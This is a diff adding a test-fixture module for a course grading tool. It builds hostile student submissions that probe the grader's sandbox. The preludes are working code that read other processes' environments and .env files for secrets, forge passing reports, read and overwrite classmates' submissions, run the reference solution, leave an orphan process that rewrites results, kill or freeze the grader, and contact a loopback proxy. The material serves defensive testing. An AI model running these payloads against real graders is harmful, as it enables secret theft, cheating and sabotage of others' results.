@@ -1,0 +1,202 @@
+"""Submissions that try to earn a grade they did not, or to harm the grader (issue: grading
+untrusted code). Each is the untouched exercises/ (worth 0) with hostile code run first in one
+of its files, or a class folder's honest submission (the victim).
+
+The hostile code is real: it does what it says to whatever it can reach. Where it could harm
+processes outside the test (signals), it acts only on its own ancestors up to the `lab grade`
+process, so that a run without the sandbox (LAB_ATTACKS_NO_SANDBOX=1) harms that run only.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+from hostile import ROOT, with_prelude
+
+MARK = "s3cr3t-4242"  # in the instructor's secrets and the victim's files: must never reach a result
+ORPHAN = "LAB_ORPHAN_MARKER_31337"  # in the command line of a process that tries to outlive grading
+FORGED = "FORGED_BY_A_SUBMISSION"
+
+# Prints, as one line on stdout, every place MARK was found (the line then lands in the
+# feedback as what the server printed).
+LEAK = """
+def _leak(where, data):
+    import sys as _s
+    text = data.decode('latin-1') if isinstance(data, bytes) else str(data)
+    at = text.find({mark!r})
+    if at >= 0:
+        _s.stdout.write('LEAK ' + where + ' ' + text[max(0, at - 40):at + 40] + '\\n')
+        _s.stdout.flush()
+""".replace("{mark!r}", repr(MARK))
+
+
+def ancestors_up_to_grader() -> str:
+    """Code defining _grader_chain(): the pids from this process's parent up to `lab grade`
+    (an argument exactly "grade"), or [] when `lab grade` is out of sight."""
+    return """
+def _grader_chain():
+    import os as _o
+    chain, pid = [], _o.getppid()
+    while pid > 1:
+        try:
+            args = open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\\0')
+            stat = open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()
+        except OSError:
+            return []
+        chain.append(pid)
+        if b'grade' in args:
+            return chain
+        pid = int(stat[1])
+    return []
+"""
+
+
+def preludes(class_folder: Path, out: Path, forged_report: dict, proxy_port: int) -> dict[str, tuple[str, str]]:
+    """Attack name -> (file it goes into, the code run first)."""
+    report_line = json.dumps(forged_report)
+    return {
+        # Writes a passing report into every stdout it can open, then kills its parent.
+        "forge": ("server.py", f"""
+import os as _o, signal as _sg
+for _pid in _o.listdir('/proc'):
+    if _pid.isdigit() and int(_pid) != _o.getpid():
+        try:
+            with open(f'/proc/{{_pid}}/fd/1', 'w') as _f:
+                _f.write({report_line!r} + '\\n')
+        except OSError:
+            pass
+try:
+    _o.kill(_o.getppid(), _sg.SIGKILL)
+except OSError:
+    pass
+"""),
+        # Reads every environment and every working folder's .env it can see, and its own.
+        "secrets": ("server.py", LEAK + """
+import os as _o
+_leak('own-env', repr(dict(_o.environ)))
+for _pid in _o.listdir('/proc'):
+    for _name in ('environ', 'cwd/.env'):
+        try:
+            _leak(_pid + '/' + _name, open(f'/proc/{_pid}/{_name}', 'rb').read())
+        except OSError:
+            pass
+"""),
+        # Reads and writes the other submissions: in the class folder, and their private copies.
+        "snoop": ("server.py", LEAK + f"""
+import glob as _g, os as _o
+for _path in _g.glob({str(class_folder)!r} + '/*/*.py') + _g.glob('/tmp/lab-grade-*/*/*.py'):
+    if _o.path.dirname(_o.path.abspath(_path)) == _o.getcwd():
+        continue  # its own copy
+    try:
+        _leak(_path, open(_path, 'rb').read())
+        with open(_o.path.join(_o.path.dirname(_path), 'pwned.txt'), 'w') as _f:
+            _f.write({FORGED!r})
+    except OSError:
+        pass
+"""),
+        # Finds the kit (find_spec, the editable install's files, its usual path) and runs the
+        # reference server in its place.
+        "reference": ("server.py", f"""
+import glob as _g, importlib.util as _iu, os as _o, runpy as _r, sys as _s
+_places = [{str(ROOT / 'solutions' / 'server.py')!r}]
+try:
+    _spec = _iu.find_spec('lab')
+    if _spec and _spec.origin:
+        _places.append(_o.path.join(_o.path.dirname(_o.path.dirname(_spec.origin)), 'solutions', 'server.py'))
+except Exception:
+    pass
+for _file in _g.glob(_s.prefix + '/lib/python*/site-packages/*editable*') + _g.glob(_s.prefix + '/lib/python*/site-packages/*.pth'):
+    try:
+        for _word in open(_file).read().replace('"', ' ').replace("'", ' ').split():
+            if _word.startswith('/'):
+                _places += [_word.rstrip(',') + '/solutions/server.py', _o.path.dirname(_word.rstrip(',')) + '/solutions/server.py']
+    except OSError:
+        pass
+for _place in _places:
+    if _o.path.isfile(_place):
+        _s.argv[0] = _place
+        _r.run_path(_place, run_name='__main__')
+        _s.exit(0)
+"""),
+        # A double fork, a new session and an empty environment: waits for the summary, then
+        # rewrites it and the victim's results.
+        "linger": ("server.py", f"""
+import os as _o, sys as _s
+if _o.fork() == 0:
+    _o.setsid()
+    if _o.fork() == 0:
+        _code = '''
+import os, time
+{ORPHAN!r}
+for _ in range(600):
+    if os.path.exists({str(out / 'summary.csv')!r}):
+        break
+    time.sleep(0.1)
+time.sleep(0.5)
+for path in ({str(out / 'summary.csv')!r}, {str(out / 'victim' / 'results.json')!r}):
+    try:
+        open(path, 'w').write({FORGED!r})
+    except OSError:
+        pass
+'''
+        _o.execve(_s.executable, [_s.executable, '-c', _code, {ORPHAN!r}], {{}})
+    _o._exit(0)
+"""),
+        # Kills `lab grade` and everything between it and this process.
+        "killer": ("server.py", ancestors_up_to_grader() + """
+import os as _o, signal as _sg
+for _pid in _grader_chain():
+    try:
+        _o.kill(_pid, _sg.SIGKILL)
+    except OSError:
+        pass
+"""),
+        # Freezes `lab grade` and everything between (no time limit fires in a stopped process).
+        "stopper": ("server.py", ancestors_up_to_grader() + """
+import os as _o, signal as _sg
+for _pid in _grader_chain():
+    try:
+        _o.kill(_pid, _sg.SIGSTOP)
+    except OSError:
+        pass
+"""),
+        # Writes into the output folder directly.
+        "writer": ("server.py", f"""
+for _path in ({str(out / 'summary.csv')!r}, {str(out / 'victim' / 'results.json')!r}, {str(out / 'forged.txt')!r}):
+    try:
+        open(_path, 'w').write({FORGED!r})
+    except OSError:
+        pass
+"""),
+        # Reaches a service on the host's loopback (the instructor's model proxy).
+        "loopback": ("server.py", f"""
+import socket as _so
+try:
+    with _so.create_connection(('127.0.0.1', {proxy_port}), timeout=2) as _c:
+        _c.sendall(b'{FORGED}\\n')
+except OSError:
+    pass
+"""),
+        # Answers the model runner's cases ahead of time, on the runner's own stdout.
+        "model_forge": ("model.py", """
+import json as _j, os as _o
+_lines = [{'ready': True}] + [{'text': t, 'recorded': r, 'printed': p} for t, r, p in (
+    ('Il peut lister des outils. / It can list tools.', False, ''),
+    ('ÉCHANTILLON / SAMPLE', True, "Recorded sample: no model answered (connection refused).\\n"),
+    ('ÉCHANTILLON / SAMPLE', True, "Recorded sample: no model answered (HTTP 503).\\n"),
+    ('ÉCHANTILLON / SAMPLE', True, "Recorded sample: no model answered (timeout).\\n"))]
+_o.write(1, ''.join(_j.dumps(_l) + '\\n' for _l in _lines).encode())
+"""),
+    }
+
+
+def make_attack(parent: Path, name: str, file_name: str, prelude: str) -> Path:
+    """The untouched exercises with `prelude` run first in `file_name`."""
+    import shutil
+
+    folder = parent / name
+    shutil.copytree(ROOT / "exercises", folder, ignore=shutil.ignore_patterns("__pycache__"))
+    path = folder / file_name
+    path.write_text(with_prelude(path.read_text(encoding="utf-8"), prelude), encoding="utf-8")
+    return folder
